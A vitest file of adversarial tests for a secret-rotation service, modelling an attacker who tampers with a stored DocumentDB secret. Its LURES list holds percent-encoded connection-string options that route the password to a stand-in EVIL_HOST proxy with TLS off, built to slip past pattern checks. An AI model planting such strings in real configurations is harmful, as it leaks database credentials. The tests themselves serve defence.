import { MongoClient } from 'mongodb';
import { describe, expect, it } from 'vitest';
import { STRATEGY_TAG, USER_TAG } from '../../functions/contract/tags.ts';
import { markerOf } from '../../functions/secret/marker.ts';
import { versionIdsOf } from '../../functions/secret/version-ids.ts';
import { CLUSTER, READ_WRITE } from '../support/in-memory-database.ts';
import { newPassword, newVersionId } from '../support/in-memory-secret-store.ts';
import { PortCalls } from '../support/port-calls.ts';
import { executionArn, RetirementMachine, RotationMachine } from '../support/rotation-machine.ts';
import { SECRET } from '../support/rotation-world.ts';
import { Arena, EVIL_HOST, OTHER_USER } from './power/arena.ts';
import { atEachMoment, enter, enterNew, mallory, PAIRS } from './power/enter.ts';
import type { Right } from './power/rights.ts';
import { WORLDS } from './power/worlds.ts';

/*
 * A ninth reviewer's attacks: on the tag that names the user, on what a rotation at a host of the writer's own leaves on record, and on
 * connection strings as drivers read them.
 */

const OWNER = 'docdb-rotation-owner';

const currentValue = (arena: Arena): Record<string, unknown> =>
  JSON.parse(arena.world.store.valueOf(SECRET, arena.current()) ?? '{}');

const giveLock = (arena: Arena, execution: string): string =>
  arena.write(markerOf(execution, []), OWNER, versionIdsOf(execution)[0]);

/** An honest person changes one key of AWSCURRENT by hand. */
const editByHand = (arena: Arena, keys: Record<string, unknown>): void => {
  const value = JSON.stringify({ ...currentValue(arena), ...keys });
  arena.world.store.putWithId(SECRET, newVersionId(), value, ['AWSCURRENT']);
};

/** A rotation whose retirement waits for its grace. */
const rotateUntilGrace = async (arena: Arena): Promise<Record<string, unknown>> => {
  const machine = new RotationMachine(arena.world, { calls: new PortCalls() });
  await machine.run(executionArn(newVersionId()), { secretId: SECRET });
  const [request] = machine.retirements as { Input: Record<string, unknown> }[];
  const { AWS_STEP_FUNCTIONS_STARTED_BY_EXECUTION_ID: _, ...input } = request?.Input ?? {};
  return input;
};

/** Whether the replaced user is out, or the operators hear that it is not. */
const isOutOrTold = async (arena: Arena, input: Record<string, unknown>, old: object | undefined) => {
  const machine = new RetirementMachine(arena.world, { calls: new PortCalls() });
  const { status } = await machine.run(executionArn(newVersionId(), 'retirement'), input);
  const isOut = !arena.world.database.accepts(old as { username: string; password: string });
  return isOut || (status === 'FAILED' && machine.notices.length > 0);
};

/** A single user's secret; the attacker, or someone else, has a user of the name that its clone would have. */
const enterSingle = (rights: Right[]): Arena => {
  const world = WORLDS['single-user'];
  if (world === undefined) throw new Error('there is no such world');
  return new Arena(rights, { ...world, pair: 'the attacker’s' });
};

/** What Node.js's own driver makes of it: whom it tells the password, and how. */
const readByDriver = (uri: string) => {
  const { proxyHost, tls, credentials } = new MongoClient(uri).options;
  return { proxyHost, tls, mechanism: credentials?.mechanism };
};

/** Options that say the same to a driver, and to no pattern of letters. */
const LURES = [
  `?%70roxyHost=${EVIL_HOST}&tls=false&authMech%61nism=PLAIN`,
  `?pro%78yHost=${EVIL_HOST}&tls=false`,
  // No password is sent there, but all that is said after the login: the proxy speaks as the user.
  `?proxyHost=SCRAM-${EVIL_HOST}&tls=false`,
];

describe('what got in:', () => {
  it.each(LURES)('a driver sends the password by way of my host: %s', (lure) => {
    const { proxyHost, tls } = readByDriver(`mongodb://app:secret@${CLUSTER}/${lure}`);
    expect(proxyHost?.toLowerCase()).toContain(EVIL_HOST);
    expect(tls).toBe(false);
  });

  it.each(['single-user', ...PAIRS].flatMap((name) => [...LURES, `?tls=false;proxyHost=${EVIL_HOST};authMechanism=PLAIN`].map((lure) => [lure, name] as const)))(
    'write: a connection string for the cluster, in a value of which an operator mends the password: it gets the next password: %s, %s',
    async (lure, name) => {
      const arena = enter(name, ['write']);
      const { password } = currentValue(arena);
      const uri = `mongodb://${arena.user}:outdated@${CLUSTER}/${lure}`;
      arena.write({ password: newPassword(), uri });
      editByHand(arena, { password });
      await arena.honest.rotate();
      expect(currentValue(arena).uri).toBe(uri);
    },
  );

  it.each(PAIRS)(
    'write + read: the replaced user as AWSCURRENT in the grace, seen by a recovery, and afterwards AWSCURRENT of before: it keeps its password, and no one is told: %s',
    async (name) => {
      const arena = enter(name, ['write', 'read'], { retirementPolicy: 'lock' });
      const old = currentValue(arena);
      arena.read();
      const input = await rotateUntilGrace(arena);
      arena.read();
      const now = currentValue(arena);
      arena.write(old);
      await arena.honest.recover();
      const isFine = await isOutOrTold(arena, input, old);
      arena.write(now);
      expect(isFine).toBe(true);
    },
  );

  it('write: a rotation at my own host, under the secret’s own user: the pair is off the record, and every later rotation is refused', async () => {
    const arena = enter('admin-clone', ['write']);
    await arena.honest.rotate();
    const right = arena.current();
    arena.write({ username: arena.world.credentialOf(right)?.username, password: newPassword(), host: EVIL_HOST });
    await arena.honest.scheduled();
    arena.honest.putBack(right);
    await arena.honest.recover();
    expect(arena.world.logsIn(arena.current())).toBe(true);
    expect((await arena.honest.rotate()).error).toBeUndefined();
  });

  it('write: the same, and the replaced user of before, which no rotation knows any more, keeps its password', async () => {
    const arena = enter('admin-clone', ['write'], { retirementPolicy: 'keep' });
    await arena.honest.rotate();
    const right = arena.current();
    arena.write({ username: arena.world.credentialOf(right)?.username, password: newPassword(), host: EVIL_HOST });
    await arena.honest.scheduled();
    arena.honest.putBack(right);
    await arena.honest.recover();
    expect((await arena.honest.rotate()).error).toBeUndefined();
  });

  it('write: of a single user’s secret, my own user of the name that its clone would have: the admin’s power changes it', async () => {
    const arena = enterSingle(['write']);
    await arena.honest.rotate();
    arena.write({ username: arena.pairUser, password: arena.ownPassword });
    await arena.honest.scheduled();
    expect(arena.world.database.user(arena.pairUser)?.password).toBe(arena.ownPassword);
  });

  it('write: the same: what is right is off the record, and no recovery finds it', async () => {
    const arena = enterSingle(['write']);
    await arena.honest.rotate();
    const right = arena.current();
    arena.write({ username: arena.pairUser, password: arena.ownPassword });
    await arena.honest.scheduled();
    arena.write('none');
    arena.write('none, too');
    await arena.honest.recover();
    expect(arena.current()).toBe(right);
  });

  it('write: a tag of a rotation that was rolled back: every later one is refused', async () => {
    for (const name of PAIRS)
      await atEachMoment(async (moment) => {
        const arena = enterNew(name, ['write']);
        const right = arena.current();
        arena.write(mallory(arena));
        await arena.honest.rotate(moment, () => arena.honest.putBack(right));
        await arena.honest.recover();
        if (arena.current() === right) expect((await arena.honest.rotate()).error).toBeUndefined();
        return arena;
      }, 8);
  });

  it.each(PAIRS)('write + start: the tag of a first rotation of mine, late, over that of a right one: %s', async (name) => {
    await atEachMoment(async (moment) => {
      const arena = enterNew(name, ['write', 'start']);
      const right = arena.current();
      arena.write(mallory(arena));
      await arena.honest.rotate(moment, async () => {
        arena.honest.putBack(right);
        giveLock(arena, executionArn('chosen'));
        await arena.start({}, 'chosen');
      });
      await arena.honest.recover();
      if (arena.world.credentialOf(arena.current())?.username.startsWith(arena.user))
      expect(arena.world.store.tags(SECRET)[USER_TAG]).toBe(arena.user);
      return arena;
    }, 8);
  });

  it('by a host of mine the tag names whom I like, of a user that changes itself; once the secret is a pair’s the admin’s power is lent to that one', async () => {
    const arena = enter('single-user that changes itself', ['write']);
    const right = arena.current();
    arena.write({ ...mallory(arena), host: EVIL_HOST });
    await arena.honest.scheduled();
    expect(arena.world.store.tags(SECRET)[USER_TAG]).not.toBe('mallory');
    arena.honest.putBack(right);
  });

  it('write: a revert lends the admin’s power for a user whose password I know', async () => {
    const arena = enter('single-user', ['write']);
    await arena.honest.rotate();
    const { database } = arena.world;
    const [one, two] = [newPassword(), newPassword()];
    database.addUser(OTHER_USER, one, READ_WRITE);
    arena.write({ username: OTHER_USER, password: one });
    await arena.honest.recover();
    database.addUser(OTHER_USER, two, READ_WRITE);
    arena.write({ username: OTHER_USER, password: two });
    await arena.honest.rotate(undefined, undefined, 'revert');
    expect(database.user(OTHER_USER)?.password).toBe(two);
  });

  it('write + start: a check tells whether a user exists, after the first rotation too', async () => {
    const answerFor = async (username: string) => {
      const arena = enter('single-user', ['write', 'start']);
      await arena.honest.rotate();
      arena.write({ username, password: newPassword() });
      const ending = await arena.start({ mode: 'check' });
      return JSON.stringify(ending.output ?? ending).replaceAll(username, 'X');
    };
    expect(await answerFor(OTHER_USER)).toBe(await answerFor('nobody-is'));
  });

  it('write + read: a pair is switched to single-user while its first rotation loses the lock: the user that it made stays', async () => {
    await atEachMoment(async (moment) => {
      const arena = enterNew('alternating-users', ['write', 'read']);
      await arena.honest.rotate(moment, () => {
        arena.read();
        arena.write('none', OWNER);
        arena.world.store.setTag(SECRET, STRATEGY_TAG, 'single-user');
      });
      await arena.honest.recover();
      await arena.honest.rotate();
      const current = arena.world.credentialOf(arena.current())?.username;
      const left = current === arena.user ? arena.pairUser : arena.user;
      const known = arena.read().find((each) => each.username === left && arena.world.database.accepts(each));
      expect(known, `${moment}`).toBeUndefined();
      return arena;
    }, 8);
  });

  it('start: two rotations in the grace of a user that a switch to single-user left behind: no later one retires it', async () => {
    const arena = enter('alternating-users', ['start']);
    await arena.honest.rotate();
    arena.world.store.setTag(SECRET, STRATEGY_TAG, 'single-user');
    const current = arena.world.credentialOf(arena.current())?.username;
    const left = current === arena.user ? arena.pairUser : arena.user;
    const password = arena.world.database.user(left)?.password;
    await rotateUntilGrace(arena);
    for (let time = 0; time < 2; time++) await arena.start();
    await arena.honest.rotate();
    expect(arena.world.database.user(left)?.password).not.toBe(password);
  });
});
